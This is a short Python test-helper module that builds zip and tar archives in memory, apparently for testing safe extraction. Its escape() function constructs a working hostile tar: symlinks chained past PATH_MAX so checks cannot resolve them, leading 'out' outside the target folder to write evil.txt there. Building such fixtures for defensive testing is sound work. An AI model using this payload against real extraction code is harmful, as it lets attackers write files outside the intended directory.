"""Archives made by hand, honest and hostile."""

import io
import tarfile
import zipfile


def zip_of(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in files.items():
            file.writestr(name, content)
    return buffer.getvalue()


def tar_of(*members, mode="w"):
    """A tar of (name, type, what it is: a link's goal, or a file's bytes)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as tar:
        for name, kind, goal in members:
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, 0o755
            data = goal if isinstance(goal, bytes) else b""
            info.linkname, info.size = "" if isinstance(goal, bytes) else goal, len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def escape():
    """Folders behind short links whose true path is longer than PATH_MAX: no check of it sees where `out` leads."""
    long, at, members = "d" * 240, "", []
    for step in "abcdefghijklmnopq":
        members += [(f"{at}{long}", tarfile.DIRTYPE, ""), (f"{at}{step}", tarfile.SYMTYPE, long)]
        at += f"{step}/"
    members += [(f"{at}top", tarfile.SYMTYPE, "../" * 17), ("out", tarfile.SYMTYPE, f"{at}top/..")]
    return tar_of(*members, ("out/evil.txt", tarfile.REGTYPE, b"written outside"))


def left(folder):
    return sorted(p.name for p in folder.iterdir())
